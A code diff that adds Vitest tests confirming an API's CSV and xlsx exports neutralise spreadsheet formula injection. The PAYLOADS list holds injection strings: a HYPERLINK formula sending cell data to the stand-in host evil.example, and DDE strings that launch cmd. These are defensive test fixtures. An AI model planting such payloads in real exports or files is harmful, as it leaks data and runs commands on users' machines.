@@ -1,9 +1,10 @@
 /**
  * Confidentiality against hostile clients: reports answer only who may read the lists they
  * aggregate; API key secrets are never stored with idempotency records, which expire; a key never
- * outlives or outranks the key that issued it.
+ * outlives or outranks the key that issued it; CSV exports neutralise formulas.
  */
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import ExcelJS from 'exceljs';
 import { startTestApp, type TestApp } from '../helpers/app.js';
 import { buildAccessFixture, CAMPAIGN, createEnterprise, MUTATIONS, type AccessFixture } from '../helpers/access-fixture.js';
 import { IDEMPOTENCY_PURGE_BATCH, IDEMPOTENCY_RETENTION_HOURS } from '../../packages/api/src/common/mutation.js';
@@ -269,5 +270,55 @@ describe('a key never outlives or outranks its issuer', () => {
     }
     const body = await app.as(child.secret).gql('{ viewer { role } }');
     expect(body.errors?.[0].message).toMatch(/expired at/);
+  });
+});
+
+// ------------------------------------------------------------------------------------- CSV formulas
+
+const PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0'];
+
+describe('CSV exports neutralise formulas', () => {
+  it('prefixes a single quote to text cells starting with =, +, -, @, tab or carriage return, and keeps negative numbers numeric', async () => {
+    const ids: string[] = [];
+    for (const name of PAYLOADS) ids.push((await createEnterprise(app, 'taiyuan', name)).id);
+    // Tab and carriage return cannot reach a name through the API (names are trimmed and checked): plant them in the table.
+    await app.sql(`update enterprise set name = E'\\t=1+1 tab' where id = ?`, [Number(ids[0])]);
+    await app.sql(`update enterprise set name = E'\\r=1+1 cr' where id = ?`, [Number(ids[1])]);
+    const planted = ['\t=1+1 tab', '\r=1+1 cr', PAYLOADS[2], PAYLOADS[3]];
+    const { res, text, rows } = await csv('enterprises.csv', { filter: { city: 'taiyuan' } });
+    expect(res.status).toBe(200);
+    const nameAt = rows[0].indexOf('name');
+    const names = rows.slice(1).map((r) => r[nameAt]);
+    for (const p of planted) {
+      expect(names, JSON.stringify(p)).toContain(`'${p}`);
+      expect(names).not.toContain(p);
+    }
+    // Quoted, so that the quote and the payload stay one cell.
+    expect(text).toContain(`"'${PAYLOADS[2]}"`);
+
+    // A negative number of a number column is a number, not a formula.
+    await app.sql(`insert into air_quality_observation (city_id, observed_on, pm25, origin, created_by, updated_by) values (?, '2022-11-15', 100, 'RECORDED', 'x', 'x')`, [fx.cities.tangshan.cityId]);
+    const ranking = await csv('monthly-pm25-ranking.csv', { input: { month: '2023-11', filter: { city: 'tangshan' } } });
+    const h = ranking.rows[0];
+    expect(ranking.rows[1][h.indexOf('change')]).toBe('-59');
+    expect(ranking.text).toMatch(/,-59,/);
+  });
+
+  it('writes the same payloads into xlsx as inline strings, which are never formulas', async () => {
+    const res = await get(exportUrl('enterprises.xlsx', { filter: { city: 'taiyuan' } }));
+    expect(res.status).toBe(200);
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(Buffer.from(await res.arrayBuffer()) as never);
+    const sheet = workbook.worksheets[0];
+    const header = (sheet.getRow(1).values as unknown[]).slice(1);
+    const column = header.indexOf('name') + 1;
+    const cells: ExcelJS.Cell[] = [];
+    sheet.eachRow((row, n) => n > 1 && cells.push(row.getCell(column)));
+    const payloadCells = cells.filter((c) => PAYLOADS.slice(2).includes(String(c.value)));
+    expect(payloadCells).toHaveLength(2);
+    for (const c of cells) {
+      expect(c.type, String(c.value)).toBe(ExcelJS.ValueType.String);
+      expect(c.formula).toBeUndefined();
+    }
   });
 });
